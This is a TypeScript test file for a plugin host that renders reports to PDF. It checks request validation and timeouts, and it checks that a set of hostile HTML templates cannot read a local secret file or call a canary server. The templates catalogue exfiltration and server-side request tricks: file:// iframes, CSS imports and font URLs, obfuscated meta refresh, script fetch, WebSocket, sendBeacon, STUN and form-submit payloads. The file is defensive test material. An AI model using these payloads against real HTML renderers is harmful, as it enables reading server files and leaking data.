/** The spine from outside: what reaches a plugin and what does not, one report under every address, hostile templates. */
import { randomUUID } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import t from "tap";
import {
  article,
  demoFile,
  isJson,
  type Json,
  project,
  ReporterClient,
  sampleFile,
} from "../plugins/reporter-client.js";
import { repository, type StartedHost, startHost } from "../start-host.js";
import { until } from "./pdf-support.js";
import { violatedPaths } from "./sessions-support.js";
import { reportOnly } from "./templates-support.js";

const jsonLimit = 20_000;
const secret = "CANARY-7c1e";
const fixtures = join(repository, "test", "fixtures", "plugins");
let host: StartedHost;
let client: ReporterClient;

/** Counts whoever comes, by whatever protocol. */
let visits = 0;
const canary = createServer((_request, response) => response.end(secret));
canary.on("connection", () => visits++);
const datagrams = createSocket("udp4");
datagrams.on("message", () => visits++);

t.before(async () => {
  canary.listen(0, "127.0.0.1");
  await once(canary, "listening");
  const { port } = canary.address() as AddressInfo;
  datagrams.bind(port, "127.0.0.1");
  await once(datagrams, "listening");
  const folder = t.testdir({
    plugins: {
      counter: t.fixture("symlink", join(fixtures, "counting", "counter")),
      reporter: t.fixture("symlink", join(repository, "plugins", "reporter")),
      troublemaker: t.fixture("symlink", join(fixtures, "good", "troublemaker")),
    },
    templates: hostileTemplates(`http://127.0.0.1:${port}`, join(t.testdirName, "secret.html")),
    "secret.html": secret,
  });
  host = await startHost({
    plugins: [join(folder, "plugins")],
    templates: [join(repository, "templates"), join(folder, "templates")],
    configuration: { limits: { json: jsonLimit }, requests: { timeout: 2000 } },
  });
  client = new ReporterClient(host.url);
});
t.teardown(async () => {
  await host.stop();
  canary.close();
  canary.closeAllConnections();
  datagrams.close();
});

const plugins = (): string => `${host.url}/EAIWS/plugins`;

const count = (body: unknown, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(`${plugins()}/counter/count`, {
    method: "POST",
    headers: { "Content-Type": "application/json", ...headers },
    body: typeof body === "string" ? body : JSON.stringify(body),
  });

async function answerOf(path: string): Promise<{ status: number; body: Json }> {
  const response = await fetch(`${host.url}${path}`);
  const body: unknown = await response.json();
  return { status: response.status, body: isJson(body) ? body : {} };
}

const calls = async (): Promise<unknown> => (await answerOf("/EAIWS/plugins/counter/calls")).body["calls"];

t.test("nothing that is wrong with a request reaches its handler", async (t) => {
  const sessionId = await client.open(project([article(1, "10.00")]));
  const fine = { sessionId, amount: 1, unit: "piece" };
  const unknown = randomUUID();
  const missing = await count({ ...fine, sessionId: unknown });
  t.equal(missing.status, 422);
  t.strictSame(await missing.json(), {
    code: 422,
    id: "request-session-not-found",
    type: "request",
    message: `The session ${unknown} is unknown or has expired. Open the project again.`,
    cause: [],
    additionalInformation: {},
    scopes: [],
  });
  const wrong = await count({
    sessionId: "no-uuid",
    amount: "1",
    unit: "mile",
    places: [{ position: 1, side: "over" }],
  });
  t.equal(wrong.status, 400);
  t.strictSame(await violatedPaths(wrong), [
    "body.amount",
    "body.places[0].position",
    "body.places[0].side",
    "body.sessionId",
    "body.unit",
  ]);
  const large = { ...fine, more: "x".repeat(jsonLimit) };
  const refused: [what: string, answer: Promise<Response>, status: number, id: string][] = [
    ["malformed", count('{"sessionId": '), 400, "request-bad-request"],
    ["no object", count("[]"), 400, "request-bad-request"],
    ["nothing", count(""), 400, "request-bad-request"],
    ["too large", count(large), 413, "request-too-large"],
    ["no JSON", count(fine, { "Content-Type": "text/plain" }), 415, "request-unsupported-media-type"],
    ["wrong method", fetch(`${plugins()}/counter/count`), 405, "request-method-not-allowed"],
    ["two sessions", fetchTwoSessions(fine), 400, "request-bad-request"],
  ];
  for (const [what, answer, status, id] of refused) {
    const response = await answer;
    t.equal(response.status, status, what);
    t.match(await response.json(), { code: status, id, type: "request", scopes: [] }, what);
  }
  t.equal(await calls(), 0);
  t.strictSame(await (await count(fine)).json(), { calls: 1 }, "what is right does reach it");
});

function fetchTwoSessions(body: Json): Promise<Response> {
  return fetch(`${plugins()}/counter/count?sessionId=${randomUUID()}`, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify(body),
  });
}

t.test("a handler that never answers, and one that loops for ever", async (t) => {
  const never = await answerOf("/EAIWS/plugins/troublemaker/never");
  t.equal(never.status, 504);
  t.match(never.body, { code: 504, id: "request-timeout", type: "request", cause: [], scopes: [] });

  const before = (await answerOf("/EAIWS/plugins/troublemaker/fine")).body["instance"];
  let looping = true;
  const loop = answerOf("/EAIWS/plugins/troublemaker/loop").finally(() => {
    looping = false;
  });
  const meanwhile = new Set<string>();
  while (looping) {
    meanwhile.add(JSON.stringify(await answerOf("/healthz")));
    meanwhile.add(`${await calls()} calls`);
  }
  t.strictSame([...meanwhile], ['{"status":200,"body":{"status":"ok"}}', "1 calls"], "others answer");
  t.match(await loop, { status: 504, body: { id: "request-timeout" } });
  let after = await answerOf("/EAIWS/plugins/troublemaker/fine");
  await until(async () => {
    after = await answerOf("/EAIWS/plugins/troublemaker/fine");
    return after.status === 200 && after.body["instance"] !== before;
  }, "the looping plugin is replaced");
  t.equal(after.status, 200);
});

const sample = await sampleFile("one-article-with-contact.obk");

t.test("one report under every address and every name of plugin and template", async (t) => {
  const sessionId = await client.open(sample ?? (await demoFile("obk")));
  const body = JSON.stringify({ sessionId, calculationScheme: "STDB2B_WBK" });
  const generate = (path: string): Promise<Response> =>
    fetch(`${host.url}${path}`, { method: "POST", headers: { "Content-Type": "application/json" }, body });
  const texts = new Set<string>();
  const ways = [
    "/EAIWS/plugins/Reporter/template/basket-standard-pro-fop/v1/generate",
    "/EAIWS/plugins/reporter/template/pCon_basket_Standard/v1/generate",
    "/1.0/EAIWS/plugins/Reporter/template/quote/v1/generate",
  ];
  for (const way of ways) {
    const answer = await generate(way);
    t.equal(answer.status, 200, way);
    t.match(answer.headers.get("slipway-plugin"), /^Reporter@\d+\.\d+\.\d+$/);
    const { name, url } = Object(await answer.json());
    t.match(name, /\.pdf$/);
    t.ok(String(url).startsWith(`${host.url}/files/`), "an absolute address");
    texts.add((await client.pages(url)).join("\f"));
  }
  for (const prefix of ["", "/1.0"]) {
    const old = await generate(`${prefix}/EAIWS/plugins/Reporter/template/basket-standard-pro-fop/generate`);
    t.match(old.headers.get("content-type"), /^text\/plain/);
    texts.add((await client.pages(await old.text())).join("\f"));
  }
  t.equal(texts.size, 1, "all print the same");
  const [text = ""] = texts;
  if (sample === undefined) t.comment("the sample files are not at hand; the demo project took their place");
  else for (const part of ["359.35", "71.87", "431.22"]) t.match(text, part);
  const other = await generate("/2.0/EAIWS/plugins/Reporter/template/quote/v1/generate");
  t.match(await other.json(), { id: "request-not-found", additionalInformation: { releases: ["1.0"] } });
});

/** Templates by what they try; every one of them prints "before" and "after". */
function hostileTemplates(web: string, file: string): Record<string, Record<string, string>> {
  const local = pathToFileURL(file).href;
  const socket = web.replace("http", "ws");
  const bodies: Record<string, string> = {
    "pictures-and-frames": `<img src="${web}/i"><iframe src="${web}/f"></iframe><svg><image href="${web}/s"/></svg>`,
    "frame-of-a-file": `<iframe src="${local}"></iframe>`,
    "object-of-a-file": `<object data="${local}"></object><embed src="${local}">`,
    "style-sheet": `<link rel="stylesheet" href="${web}/c.css"><link rel="stylesheet" href="${local}">`,
    "style-of-its-own": `<style>@import "${web}/i.css"; body { background: url("${web}/b") }</style>`,
    prefetch: `<link rel="prefetch" href="${web}/p"><link rel="preconnect" href="${web}"><link rel="dns-prefetch" href="${web}">`,
    refresh: `<meta http-equiv="refresh" content="0;url=${web}/r">`,
    "refresh-to-a-file": `<meta http-equiv="re&#102;resh" content="0;url=${local}">`,
    "refresh-behind-a-quoted-end": `<meta content="0;url=${web}/r#>" HTTP-EQUIV=refresh>`,
    "script-fetch": `<script>fetch("${web}/x").then((r) => r.text()).then((x) => document.body.append(x))</script>`,
    "script-socket": `<script>new WebSocket("${socket}/w")</script>`,
    "script-to-a-file": `<script>location = "${local}"</script>`,
    "script-loop": "<script>for (;;);</script>",
    "script-form": `<form id="f" action="${web}/post" method="post"></form><script>f.submit()</script>`,
    "script-beacon": `<script>navigator.sendBeacon("${web}/b"); new RTCPeerConnection({ iceServers: [{ urls: "stun:${web.slice(7)}" }] }).createOffer({ offerToReceiveAudio: true })</script>`,
    "base-and-relative": `<base href="${web}/"><img src="x.png">`,
  };
  const style = `@font-face { font-family: Thief; src: url("${web}/font") } p { font-family: Thief; background: url("${web}/css") }`;
  const files = (key: string, body: string, changes: Json = {}) => ({
    ...reportOnly(key, `<p>before</p>${body}<p>after</p>`, changes),
    "style.css": style,
  });
  return Object.fromEntries(
    Object.entries(bodies).flatMap(([key, body]) => {
      const scripted = key.startsWith("script") && key !== "script-loop";
      return [
        [key, files(key, body)],
        ...(scripted ? [[`${key}-on`, files(`${key}-on`, body, { scripts: true })]] : []),
      ];
    }),
  );
}

t.test("hostile templates read nothing, call nobody and hold nothing up", async (t) => {
  const keys = Object.keys(hostileTemplates("http://127.0.0.1:1", "/nowhere"));
  const listed = await client.get("templates.json?category=test");
  t.equal(Array.isArray(listed.json["list"]) && listed.json["list"].length, keys.length, "all are served");
  const sessionId = await client.open(project([article(1, "10.00")]));
  // All at once: more than the browser prints at a time, and none is refused.
  const reports = keys.map(async (key) => {
    const answer = await client.post(`template/${key}/v1/generate`, { sessionId });
    const text = answer.status === 200 ? (await client.pages(answer.json["url"])).join(" ") : "";
    return { key, answer, text };
  });
  for (const { key, answer, text } of await Promise.all(reports)) {
    t.notMatch(`${answer.text} ${text}`, secret, key);
    if (key.startsWith("refresh")) t.match(answer.json, { code: 500, id: "template-error" }, key);
    // A document whose scripts run may well lose its place; it is refused then.
    else if (answer.status === 500 && key.endsWith("-on"))
      t.match(answer.json, { id: "template-error" }, key);
    else t.match(text, /before.*after/, key);
  }
  const links = { prependLinks: [`http://127.0.0.1:${(canary.address() as AddressInfo).port}/a.pdf`] };
  const report = await client.post("template/quote/v1/generate", { sessionId, ...links });
  t.match(report.json, { errors: [{ id: "attachment-error" }] }, "nor do requests");
  t.match((await client.pages(report.json["url"]))[0], /Article 1/, "reports still come");
  t.equal(visits, 0);
  const { port } = canary.address() as AddressInfo;
  t.equal(await (await fetch(`http://127.0.0.1:${port}/`)).text(), secret, "which was there to be read");
  t.ok(visits > 0);
});
